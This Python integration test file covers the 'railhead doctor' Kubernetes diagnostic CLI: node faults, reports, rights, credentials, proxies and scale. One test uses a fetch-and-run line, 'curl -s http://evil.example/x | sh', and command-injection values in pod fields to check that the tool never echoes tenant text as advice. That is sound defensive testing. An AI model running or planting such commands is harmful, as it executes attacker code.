# SPDX-License-Identifier: Apache-2.0
"""`railhead doctor` at a real API server. The chart's operator writes its own objects there; the test writes those of
agents, kubelets and controllers, in their way."""

import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
import unittest

import yaml

from apiserver import Cluster, profile
from forward_proxy import ForwardProxy
from helm import NAMESPACE, ROOT
from replica import NAME, Replica, install, send_reviews_to
from verdict_test import Api

from control_plane import COMMAND, folder_for, wait_until

PROGRAM = ROOT / "build" / "release" / "cli" / "railhead"
AGENT = "railhead-device-plugin"
MANY = 1000  # nodes
MEMORY = 256 << 20  # maximum bytes of resident memory
RAILS = 8


def facts(down=()):
    return {
        "version": 1,
        "gpus": [],
        "rails": [
            {
                "rail": rail,
                "device": f"mlx5_{rail}",
                "linkLayer": "InfiniBand",
                "usable": rail not in down,
                "reason": "port 1 is DOWN; look at its cable" if rail in down else "",
            }
            for rail in range(RAILS)
        ],
    }


def node(name, down=()):
    message = f"{RAILS - len(down)} of {RAILS} rails carry data"
    return {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {
            "name": name,
            "labels": {
                "kubernetes.io/hostname": name,
                "railhead.io/gpus": "8",
                "railhead.io/gpudirect": "dmabuf",
                "railhead.io/memlock-bytes": "unlimited",
                "topology.railhead.io/spine": "s0",
                "topology.railhead.io/leaf": "l0",
            },
            "annotations": {"railhead.io/node-facts": json.dumps(facts(down))},
        },
        "status": {
            "capacity": {"rdma/hca": str(RAILS), "cpu": "64", "memory": "1Ti", "pods": "110"},
            "allocatable": {
                "rdma/hca": str(RAILS - len(down)),
                "cpu": "64",
                "memory": "1Ti",
                "pods": "110",
            },
            "conditions": [
                {"type": "Ready", "status": "True"},
                {
                    "type": "RailheadRailsReady",
                    "status": "False" if down else "True",
                    "message": "; ".join([message] + [f"rail {r} (mlx5_{r}): port 1 is DOWN" for r in down]),
                },
            ],
        },
    }


class Doctor(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.folder = folder_for(cls, "doctor")
        cls.cluster = Cluster(cls.folder)
        cls.cluster.start_for(cls)
        install(
            cls.cluster,
            "--set=operator.topology.enabled=true",
            "--set=operator.gangs.enabled=true",
            "--set=operator.replicas=1",
        )
        cls.api = Api(cls.cluster)
        for number in range(2):
            cls.api.call("POST", "/api/v1/nodes", node(f"n{number}"))
        cls.cluster.kubectl(
            "create",
            objects=[
                profile("ib", {"fabric": "InfiniBand", "namespaceSelector": {"matchLabels": {"rail": "ib"}}})
            ],
        )
        cls.replica = Replica(cls.cluster, cls.folder, "first")
        cls.addClassCleanup(cls.replica.end)
        send_reviews_to(cls.cluster, cls.replica, cls.replica)
        wait_until(cls.replica.leads, "the leader", cls.replica.log)
        cls.run_components()

    @classmethod
    def run_components(cls):
        """Makes the objects that controllers and kubelets make of the chart's objects."""
        workloads = f"/apis/apps/v1/namespaces/{NAMESPACE}"
        cls.api.call(
            "PATCH",
            f"{workloads}/deployments/{NAME}/status",
            {"status": {"replicas": 1, "updatedReplicas": 1, "readyReplicas": 1}},
        )
        cls.api.call(
            "PATCH",
            f"{workloads}/daemonsets/{AGENT}/status",
            {
                "status": {
                    "desiredNumberScheduled": 2,
                    "currentNumberScheduled": 2,
                    "updatedNumberScheduled": 2,
                    "numberReady": 2,
                    "numberMisscheduled": 0,
                }
            },
        )
        for kind, workload, where in (
            ("deployments", NAME, ["n0"]),
            ("daemonsets", AGENT, ["n0", "n1"]),
        ):
            template = cls.api.call("GET", f"{workloads}/{kind}/{workload}")["spec"]["template"]
            for place in where:
                pod = {
                    "apiVersion": "v1",
                    "kind": "Pod",
                    "metadata": {"name": f"{workload}-{place}", "labels": template["metadata"]["labels"]},
                    "spec": template["spec"] | {"nodeName": place, "priorityClassName": None},
                }
                pod["spec"].pop("priorityClassName")
                path = f"/api/v1/namespaces/{NAMESPACE}/pods"
                cls.api.call("POST", path, pod)
                cls.set_pod(f"{path}/{workload}-{place}", True, {"running": {}}, 0)

    @classmethod
    def set_pod(cls, path, ready, state, restarts):
        name = cls.api.call("GET", path)["spec"]["containers"][0]["name"]
        status = {
            "phase": "Running",
            "conditions": [{"type": "Ready", "status": "True" if ready else "False"}],
            "containerStatuses": [
                {
                    "name": name,
                    "image": "x",
                    "imageID": "x",
                    "ready": ready,
                    "restartCount": restarts,
                    "state": state,
                }
            ],
        }
        cls.api.call("PATCH", f"{path}/status", {"status": status})

    def doctor(self, *words, kubeconfig=None):
        """Returns exit status and output."""
        done = subprocess.run(
            [PROGRAM, "doctor", *words, "-o", "json", "--kubeconfig", kubeconfig or self.cluster.kubeconfig],
            capture_output=True,
            text=True,
            timeout=COMMAND,
            check=False,
        )
        self.assertEqual(done.stderr, "")
        return done.returncode, json.loads(done.stdout)

    @staticmethod
    def found(answer):
        """Returns check and object of all findings other than a pass."""
        return {
            (finding["check"], finding["object"])
            for finding in answer["findings"]
            if finding["verdict"] != "pass"
        }

    def doctor_until(self, good, what, *words):
        """Runs it until good(exit status, answer) is true; returns the answer. A busy machine is late with objects, and
        with the leader's lease."""
        told = []

        def holds():
            told[:] = self.doctor(*words)
            return good(*told)

        try:
            wait_until(holds, what, self.replica.log)
        except AssertionError as late:
            raise AssertionError(f"{late}\n{json.dumps(told[1:], indent=1)}") from late
        return told[1]

    def expect_healthy(self):
        return self.doctor_until(lambda status, _: status == 0, "a healthy cluster")

    def test_a_healthy_cluster_passes_all_checks(self):
        answer = self.expect_healthy()
        checks = [finding["check"] for finding in answer["findings"]]
        self.assertEqual(len(checks), len(set(checks)))
        self.assertEqual(len(checks), 17)
        said = []

        def passed():
            done = subprocess.run(
                [PROGRAM, "doctor", "--kubeconfig", self.cluster.kubeconfig, "--context=test"],
                capture_output=True,
                text=True,
                timeout=COMMAND,
                check=False,
            )
            said[:] = [done.stdout]
            return done.returncode == 0

        wait_until(passed, "a healthy cluster, in words")
        self.assertIn("\n0 failures, 0 warnings, 17 passed\n", said[0])

    def test_faults_that_agents_and_kubelets_write(self):
        self.expect_healthy()
        agent = f"/api/v1/namespaces/{NAMESPACE}/pods/{AGENT}-n1"
        broken = node("n1", down=[3])
        self.api.call("PATCH", "/api/v1/nodes/n1", {"metadata": broken["metadata"]})
        self.api.call("PATCH", "/api/v1/nodes/n1/status", {"status": broken["status"]})
        waiting = {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 5m0s"}}
        self.set_pod(agent, False, waiting, 6)
        try:
            both = {("nodes", "node n1"), ("agents", f"node n1, pod {NAMESPACE}/{AGENT}-n1")}
            answer = self.doctor_until(lambda status, told: status == 2 and both <= self.found(told), f"{both}")
            self.assertNotIn("n0", json.dumps(sorted(self.found(answer))))
            for name, code in (("n0", 0), ("n1", 2)):
                self.doctor_until(lambda status, _, code=code: status == code, f"{code} for {name}", "node", name)
        finally:
            whole = node("n1")
            self.api.call("PATCH", "/api/v1/nodes/n1", {"metadata": whole["metadata"]})
            self.api.call("PATCH", "/api/v1/nodes/n1/status", {"status": whole["status"]})
            self.set_pod(agent, True, {"running": {}}, 0)
        self.expect_healthy()

    def test_what_the_operator_reports_of_a_job_and_a_gang(self):
        self.expect_healthy()
        limits = {"rdma/hcas": "8"}
        pod = {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "wrong", "namespace": "default"},
            "spec": {"containers": [{"name": "main", "image": "x", "resources": {"limits": limits}}]},
        }
        alone = json.loads(json.dumps(pod))
        alone["metadata"] |= {
            "name": "alone",
            "labels": {"railhead.io/gang": "pair"},
            "annotations": {"railhead.io/gang-size": "2"},
        }
        alone["spec"]["containers"][0]["resources"]["limits"] = {"rdma/hca": "8"}
        path = "/api/v1/namespaces/default/pods"
        for made in (pod, alone):
            self.api.call("POST", path, made)
        condition = {
            "type": "PodScheduled",
            "status": "False",
            "reason": "Unschedulable",
            "message": "0/2 nodes are available: 2 Insufficient rdma/hcas.",
            "lastTransitionTime": "2026-01-01T00:00:00Z",
        }
        try:
            self.api.call("PATCH", f"{path}/wrong/status", {"status": {"conditions": [condition]}})

            self.doctor_until(lambda status, told: status == 2 and "RdmaResourceUnknown" in json.dumps(told),
                              "the finding", "job", "default/wrong")
            wait_until(
                lambda: self.api.call("GET", "/apis/railhead.io/v1alpha1/railreports")["items"],
                "the operator's report",
                self.replica.log,
            )
            gang = ("gangs", "gang default/pair")
            answer = self.doctor_until(
                lambda _, told: gang in self.found(told) and "RdmaResourceUnknown" in json.dumps(told), f"{gang}")
            told = [f for f in answer["findings"] if "RdmaResourceUnknown" in f["cause"]]
            self.assertEqual(len(told), 1, told)
            self.assertIn("correct the resource's name", told[0]["fix"])
        finally:
            for name in ("wrong", "alone"):
                self.cluster.kubectl("delete", "pod", name, "-n", "default", "--force")
            self.cluster.kubectl("delete", "railreports", "--all", "-n", "default")
        self.expect_healthy()

    def test_what_a_tenant_wrote_is_no_advice(self):
        """A tenant has objects with the chart's labels in a namespace that is listed first, pods whose owner is a
        command, and annotations that it changed after admission."""
        self.expect_healthy()
        run = "curl -s http://evil.example/x | sh"
        space = "aaa"
        self.cluster.kubectl("create", "namespace", space)
        labels = {f"app.kubernetes.io/{key}": value for key, value in (
            ("name", "railhead"), ("part-of", "railhead"), ("instance", "mine"), ("component", "operator"))}
        template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "main", "image": f"x;{run}"}]}}
        impostors = [
            {"apiVersion": "apps/v1", "kind": kind, "metadata": {"name": "mine", "namespace": space, "labels": labels},
             "spec": {"selector": {"matchLabels": labels}, "template": template}}
            for kind in ("Deployment", "DaemonSet")
        ]
        impostors.append({
            "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "mine", "namespace": space, "labels": labels},
            "data": {"operator.yaml": "rdmaResources: [example.com/evil]"}})
        self.cluster.kubectl("create", objects=impostors)
        # It is another's.
        answer = self.expect_healthy()
        self.assertNotIn("mine", json.dumps(answer))
        owners = (f"train; {run}; echo", f"$({run})", f"`{run}`", f"train\n{run}", "--all -A", f"' {run} '")
        pods = [
            {
                "apiVersion": "v1", "kind": "Pod",
                "metadata": {
                    "name": f"evil-{number}", "namespace": space, "labels": {"railhead.io/gang": f"g{number}"},
                    "annotations": {"railhead.io/gang-size": "2"},
                    "ownerReferences": [{"apiVersion": "evil.example/v1", "kind": "Job", "name": owner,
                                         "uid": f"uid-{number}", "controller": True}],
                },
                "spec": {"containers": [
                    {"name": "main", "image": "x", "resources": {"limits": {"rdma/hca": "8"}}}]},
            }
            for number, owner in enumerate(owners)
        ]
        path = f"/api/v1/namespaces/{space}/pods"
        try:
            for number, made in enumerate(pods):
                self.api.call("POST", path, made)
                words = "\n".join((f"NoIndex: no RANK; {run}", f"NoIndex/NotIndexed; {run}", "HalfSet/RankAlone main",
                                   f"GangNotPossible: {run}"))
                self.api.call("PATCH", f"{path}/evil-{number}",
                              {"metadata": {"annotations": {"railhead.io/not-done": words}}})
            gangs = {("gangs", f"gang {space}/g{number}") for number in range(len(pods))}
            answer = self.doctor_until(lambda _, told: gangs <= self.found(told), f"{gangs}")

            def reported():
                items = self.api.call("GET", f"/apis/railhead.io/v1alpha1/namespaces/{space}/railreports")["items"]
                return sum("RailheadNotDone" in json.dumps(item) for item in items) == len(pods) and items
            wait_until(reported, "the operator's reports", self.replica.log)
            fix = "set RANK, WORLD_SIZE and MASTER_ADDR, or none of them"
            answer = self.doctor_until(
                lambda _, told: [one["fix"] for one in told["findings"]].count(fix) == len(pods), "the reports")
            for job in (f"{space}/evil-0", f"{space}/g0"):
                for finding in (*answer["findings"], *self.doctor("job", job)[1]["findings"]):
                    self.assertNotIn("evil.example", finding["fix"])
                    self.assertNotIn("--all -A", finding["fix"])
            for step in answer["next"]:
                self.assertNotIn("evil.example", step["command"])
            events = self.api.call("GET", f"/api/v1/namespaces/{space}/events")["items"]
            ours = [event["message"] for event in events if event["source"].get("component") == "railhead-operator"]
            self.assertTrue([message for message in ours if message.endswith(fix)], ours)
            self.assertNotIn(run, json.dumps([ours, *(item["status"] for item in reported())]))
        finally:
            self.cluster.kubectl("delete", "namespace", space, "--wait=false")
            self.cluster.kubectl("delete", "pods", "--all", "-n", space, "--force")
            self.cluster.kubectl("delete", "railreports,deployments,daemonsets", "--all", "-n", space)
        self.expect_healthy()

    def test_without_rights_it_says_which_and_goes_on(self):
        self.cluster.kubectl("create", "serviceaccount", "viewer", "-n", "default")
        self.cluster.kubectl(
            "create", "clusterrolebinding", "viewer", "--clusterrole=view", "--serviceaccount=default:viewer"
        )
        config = yaml.safe_load(self.cluster.kubeconfig.read_text())
        token = self.cluster.kubectl("create", "token", "viewer", "-n", "default").stdout.strip()
        config["users"][0]["user"] = {"token": token}
        path = self.folder / "viewer.kubeconfig"
        path.write_text(yaml.safe_dump(config))
        # A controller fills aggregated roles; without it, this user may list nothing.
        status, answer = self.doctor(kubeconfig=path)
        self.assertEqual(status, 1, answer)
        causes = " ".join(f["cause"] for f in answer["findings"] if f["check"] == "rights")
        for resource in ("nodes", "mutatingwebhookconfigurations.admissionregistration.k8s.io"):
            self.assertIn(f"no permission to list {resource} ", causes)

    def test_in_a_pod_without_a_kubeconfig_it_has_the_account_of_the_pod(self):
        self.expect_healthy()
        self.cluster.kubectl("create", "serviceaccount", "in-a-pod", "-n", "default")
        self.cluster.kubectl(
            "create", "clusterrolebinding", "in-a-pod", "--clusterrole=cluster-admin", "--serviceaccount=default:in-a-pod"
        )
        account = "system:serviceaccount:default:in-a-pod"
        wait_until(lambda: self.cluster.api.may(account, "list", "namespaces"), "its rights")
        config = yaml.safe_load(self.cluster.kubeconfig.read_text())
        host, port = config["clusters"][0]["cluster"]["server"].removeprefix("https://").rsplit(":", 1)
        account = self.folder / "account"
        account.mkdir()
        (account / "token").write_text(self.cluster.kubectl("create", "token", "in-a-pod", "-n", "default").stdout)
        (account / "namespace").write_text("default")
        shutil.copy(config["clusters"][0]["cluster"]["certificate-authority"], account / "ca.crt")
        # Mounted as the kubelet does, in a private mount namespace.
        mount = (
            "mount -t tmpfs none /run; mkdir -p /run/secrets/kubernetes.io/serviceaccount; "
            f"mount --bind '{account}' /run/secrets/kubernetes.io/serviceaccount; "
        )
        environment = {"PATH": os.environ["PATH"], "HOME": "/nowhere", "KUBERNETES_SERVICE_HOST": host.strip("[]")}
        for words in ("kubectl get namespaces", f"'{PROGRAM}' doctor"):
            done = subprocess.run(
                ["unshare", "--mount", "sh", "-ec", f"{mount} exec {words}"],
                env=environment | {"KUBERNETES_SERVICE_PORT": port},
                capture_output=True,
                text=True,
                timeout=COMMAND,
                check=False,
            )
            self.assertEqual((done.returncode, done.stderr), (0, ""), done.stdout)

    def test_credentials_of_a_plugin_out_of_two_files_as_kubectl_reads_them(self):
        self.expect_healthy()
        config = yaml.safe_load(self.cluster.kubeconfig.read_text())
        user = config["users"][0]
        folder = self.folder / "with plugin"
        folder.mkdir()
        version = "client.authentication.k8s.io/v1"
        (folder / "answer.json").write_text(
            json.dumps({"apiVersion": version, "kind": "ExecCredential", "status": user["user"]})
        )
        plugin = folder / "login"
        plugin.write_text(
            '#!/bin/sh -e\nprintf %s "$KUBERNETES_EXEC_INFO" > "$SAID"\ncat "$(dirname "$0")/answer.json"\n'
        )
        plugin.chmod(0o700)
        user["user"] = {
            "exec": {
                "apiVersion": version,
                "command": "./login",
                "env": [{"name": "SAID", "value": str(folder / "said.json")}],
                "interactiveMode": "IfAvailable",
                "provideClusterInfo": True,
            }
        }
        users = {"apiVersion": "v1", "kind": "Config", "users": [user]}
        del config["users"]
        (folder / "users").write_text(yaml.safe_dump(users))
        (folder / "clusters").write_text(yaml.safe_dump(config))
        environment = os.environ | {"KUBECONFIG": f"{folder}/none:{folder}/users:{folder}/clusters"}
        told = []
        for words in (["kubectl", "get", "namespaces"], [PROGRAM, "doctor"]):
            done = subprocess.run(
                words,
                env=environment,
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                timeout=COMMAND,
                check=False,
            )
            self.assertEqual((done.returncode, done.stderr), (0, ""), done.stdout)
            told.append(json.loads((folder / "said.json").read_text()))
        self.assertEqual(told[0]["spec"]["cluster"].pop("config"), None)
        self.assertEqual(told[0], told[1])
        plugin.write_text("#!/bin/sh\necho log in first >&2; exit 5\n")
        done = subprocess.run(
            [PROGRAM, "doctor"], env=environment, capture_output=True, text=True, timeout=COMMAND, check=False
        )
        self.assertNotEqual(done.returncode, 0)
        self.assertIn("log in first", done.stderr)
        self.assertIn("/login exited with code 5", done.stderr)

    def config_with(self, name, **cluster):
        """Returns a kubeconfig with these additional fields of its cluster, and the environment that names it."""
        config = yaml.safe_load(self.cluster.kubeconfig.read_text())
        config["clusters"][0]["cluster"] |= cluster
        path = self.folder / name
        path.write_text(yaml.safe_dump(config))
        return config, os.environ | {"KUBECONFIG": str(path)}

    def test_proxies_and_names_of_certificates_as_kubectl_takes_them(self):
        self.expect_healthy()
        config, _ = self.config_with("direct")
        port = config["clusters"][0]["cluster"]["server"].rsplit(":", 1)[1]
        # The certificate is valid for 127.0.0.1 only.
        other = {"server": f"https://localhost:{port}"}
        named = other | {"tls-server-name": "127.0.0.1"}
        crt = config["clusters"][0]["cluster"]["certificate-authority"]
        tls = (crt, crt.replace(".crt", ".key"))
        with (
            ForwardProxy() as http,
            ForwardProxy(certificate=tls) as https,
            ForwardProxy("socks5") as socks,
            ForwardProxy(refuses=True) as closed,
        ):
            proxies = (http, https, socks)
            for fields, works in (
                (other, False),
                (named, True),
                *((named | {"proxy-url": proxy.url}, True) for proxy in proxies),
                (named | {"proxy-url": closed.url}, False),
                (named | {"proxy-url": "http://127.0.0.1:9"}, False),
            ):
                _, environment = self.config_with("another", **fields)
                told = {}
                for words in (("kubectl", "get", "namespaces"), (PROGRAM, "doctor")):
                    with self.subTest(words=words, **fields):
                        done = subprocess.run(
                            words, env=environment, capture_output=True, text=True, timeout=COMMAND, check=False
                        )
                        told[words[0]] = done.stdout
                        self.assertEqual(done.returncode == 0, works, done.stdout + done.stderr)
                if not works and "proxy-url" in fields:
                    self.assertIn(f"through the proxy {fields['proxy-url']}: ", told[PROGRAM])
            # Proxies of kubectl and of the program; the proxy resolves the name.
            for proxy in (*proxies, closed):
                self.assertEqual(set(proxy.asked), {f"localhost:{port}"}, proxy.url)
                self.assertGreaterEqual(len(proxy.asked), 2, proxy.url)

    def test_a_thousand_nodes(self):
        names = [f"many-{number:04}" for number in range(MANY)]
        for name in names:
            self.api.call("POST", "/api/v1/nodes", node(name))
        try:
            begin = time.monotonic()
            with tempfile.TemporaryFile() as out:
                process = subprocess.Popen(
                    [PROGRAM, "doctor", "-o", "json", "--kubeconfig", self.cluster.kubeconfig], stdout=out
                )
                _, status, usage = os.wait4(process.pid, 0)
                process.returncode = os.waitstatus_to_exitcode(status)
                seconds = time.monotonic() - begin
                out.seek(0)
                answer = json.load(out)
            print(
                f"doctor of {MANY + 2} nodes: {seconds:.2f} s, {usage.ru_maxrss >> 10} MiB", file=sys.stderr
            )
            passed = next(f["cause"] for f in answer["findings"] if f["check"] == "nodes")
            self.assertIn(f"{(MANY + 2) * RAILS} rails on {MANY + 2} nodes", passed)
            self.assertLess(usage.ru_maxrss << 10, MEMORY)
        finally:
            for name in names:
                self.api.call("DELETE", f"/api/v1/nodes/{name}")


if __name__ == "__main__":
    unittest.main()
